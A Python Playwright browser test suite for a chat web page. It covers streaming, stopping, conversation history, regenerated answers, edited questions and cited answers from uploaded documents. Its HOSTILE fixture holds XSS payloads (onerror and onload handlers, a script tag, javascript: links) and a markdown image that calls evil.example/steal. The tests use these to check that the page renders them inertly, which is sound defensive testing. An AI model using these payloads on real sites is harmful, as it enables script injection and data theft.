"""Chat in the page: streamed, stoppable, kept, and unable to fetch or run what a reply asks for."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, expect

pytestmark = pytest.mark.browser

HOSTILE = (
    "**Bold** words.\n\n",
    "![secret](https://evil.example/steal?q=1) ",
    "<img src=https://evil.example/x onerror=alert(1)>",
    "<svg onload=alert(1)></svg><script>alert(1)</script>\n\n",
    "[safe](https://example.com/a) [trick](javascript:alert(1)) [data](data:text/html,x)\n\n",
    "```python\nprint(15)\n```\n\n",
    "| a | b |\n|---|---|\n| 1 | 2 |\n",
)


def say(page: Page, text: str) -> None:
    page.locator("[data-ask]").fill(text)
    # The page knows its models a moment after it is drawn.
    expect(page.locator(".ask .send")).to_be_enabled()
    page.keyboard.press("Enter")


def test_a_reply_is_drawn_as_words_whatever_it_holds(
    visit: Callable[..., Page], site: Any, home: Path
) -> None:
    llm = site.add_scripted_model(home, *HOSTILE)
    page = visit("/chat", locale="en-US")
    page.on("dialog", lambda dialog: pytest.fail(f"the reply ran a script: {dialog.message}"))
    say(page, "Say something")
    reply = page.locator("article .reply")
    expect(reply.locator("footer .facts")).to_contain_text("tok/s")
    expect(reply.locator("strong")).to_have_text("Bold")
    expect(reply.locator("pre")).to_have_text("print(15)")
    expect(reply.locator("td")).to_have_text(["1", "2"])
    expect(reply.locator("img, script, iframe, object, [onerror], [onload]")).to_have_count(0)
    expect(reply.locator("a")).to_have_count(1)
    link = reply.locator("a")
    assert link.get_attribute("href") == "https://example.com/a"
    assert "noopener" in (link.get_attribute("rel") or "")
    expect(reply).to_contain_text("(example.com)")
    expect(reply).to_contain_text("<script>alert(1)</script>")
    assert [m.content for m in llm.asked[0]["messages"]] == ["Say something"]


def test_what_it_cost_stands_under_the_reply(visit: Callable[..., Page], site: Any, home: Path) -> None:
    site.add_scripted_model(home)
    page = visit("/chat", locale="en-US")
    say(page, "Hello")
    facts = page.locator("article .facts")
    expect(facts).to_contain_text("24.0 tok/s")
    expect(facts).to_contain_text("prompt 12 (4 cached)")
    expect(facts).to_contain_text("12 new")
    expect(page.locator(".context")).to_contain_text("24 of 4,096 tokens")


def test_stop_frees_the_model_at_once(visit: Callable[..., Page], site: Any, home: Path) -> None:
    llm = site.add_scripted_model(home, "one", " two")
    llm.slow = True
    page = visit("/chat", locale="en-US")
    say(page, "Count")
    expect(page.locator("article .reply")).to_contain_text("one")
    page.get_by_role("button", name="Stop").click()
    expect(page.locator("article .reply")).to_contain_text("You stopped this here")
    assert llm.cancelled.wait(10), "the model was not told that nobody listens any more"


def test_conversations_are_kept_renamed_and_deleted(
    visit: Callable[..., Page], site: Any, home: Path
) -> None:
    site.add_scripted_model(home)
    page = visit("/chat", locale="en-US")
    say(page, "First question")
    expect(page.locator("article .facts")).to_be_visible()
    page.reload()
    expect(page.locator("article")).to_contain_text("Hello there.")
    page.get_by_role("button", name="Rename").click()
    page.get_by_role("textbox", name="Rename").fill("My name for it")
    page.keyboard.press("Enter")
    page.reload()
    expect(page.get_by_role("link", name="My name for it")).to_be_visible()
    page.get_by_role("button", name="Delete").click()
    page.get_by_role("dialog").get_by_role("button", name="Remove").click()
    expect(page.get_by_role("link", name="My name for it")).to_have_count(0)
    expect(page).to_have_url(re.compile("/chat$"))


def test_answering_again_keeps_the_first_answer(visit: Callable[..., Page], site: Any, home: Path) -> None:
    llm = site.add_scripted_model(home, "first")
    page = visit("/chat", locale="en-US")
    say(page, "Again")
    expect(page.locator("article .facts")).to_be_visible()
    llm.words = ["second"]
    page.get_by_role("button", name="Answer again").click()
    expect(page.locator("article .reply")).to_contain_text("second")
    expect(page.locator(".versions")).to_contain_text("2/2")
    page.get_by_role("button", name="Previous answer").click()
    expect(page.locator("article .reply")).to_contain_text("first")
    assert len(llm.asked[1]["messages"]) == 1, "the answer that is replaced is no part of the question"


def test_an_edited_question_begins_again_from_there(
    visit: Callable[..., Page], site: Any, home: Path
) -> None:
    llm = site.add_scripted_model(home)
    page = visit("/chat", locale="en-US")
    say(page, "one")
    expect(page.locator("article .facts")).to_be_visible()
    say(page, "two")
    expect(page.locator("article .facts")).to_have_count(2)
    page.locator("article").first.hover()
    page.get_by_role("button", name="Edit and ask again").first.click()
    page.get_by_role("textbox", name="Edit and ask again").fill("uno")
    page.keyboard.press("Enter")
    expect(page.locator("article")).to_have_count(1)
    expect(page.locator("article .facts")).to_have_count(1)
    assert [m.content for m in llm.asked[-1]["messages"]] == ["uno"]


def test_a_conversation_may_answer_from_documents_each_claim_with_its_source(
    visit: Callable[..., Page], site: Any, home: Path
) -> None:
    site.add_scripted_model(
        home, "The keeper feeds ", "seven grey pelicans [1]. ", "The moon is made of cheese [1]."
    )
    page = visit("/", locale="en-US")
    page.locator("main input.field").first.fill("Island")
    page.keyboard.press("Enter")
    text = b"# Lighthouse\n\nThe keeper feeds seven grey pelicans every morning.\n"
    note = {"name": "island.md", "mimeType": "text/markdown", "buffer": text}
    page.get_by_test_id("files").set_input_files([note])  # type: ignore[list-item]
    expect(page.get_by_test_id("documents").locator("li")).to_have_count(1)
    page.goto("/chat?knowledge=Island")
    say(page, "What does the keeper feed?")
    expect(page.locator("article")).to_contain_text("Written by scripted")
    page.locator("article button[data-citation='1']").first.click()
    expect(page.get_by_test_id("source").locator("[data-marked]").first).to_contain_text(
        "seven grey pelicans"
    )
    page.keyboard.press("Escape")
    expect(page.get_by_test_id("source")).to_have_count(0)
    page.reload()
    expect(page.locator("article button[data-citation='1']").first).to_be_visible()


def test_without_a_model_the_page_says_how_to_add_one(visit: Callable[..., Page]) -> None:
    page = visit("/chat")
    expect(page.get_by_role("heading", level=1)).to_have_text("先添加一个模型")
    expect(page.locator("main")).to_contain_text("向文档提问不需要模型")


def test_a_real_model_is_added_by_its_path_and_continues_a_story(
    visit: Callable[..., Page], shared: Any
) -> None:
    model = shared("data/models/stories260K.bin")
    page = visit("/chat", locale="en-US")
    page.get_by_label("Path of the model").fill(str(model))
    page.keyboard.press("Enter")
    expect(page.locator(".composer")).to_contain_text("continues what you write")
    say(page, "Once upon a time")
    expect(page.locator("article .facts")).to_contain_text("tok/s", timeout=60_000)
    assert len(page.locator("article .reply .markdown").inner_text()) > 40
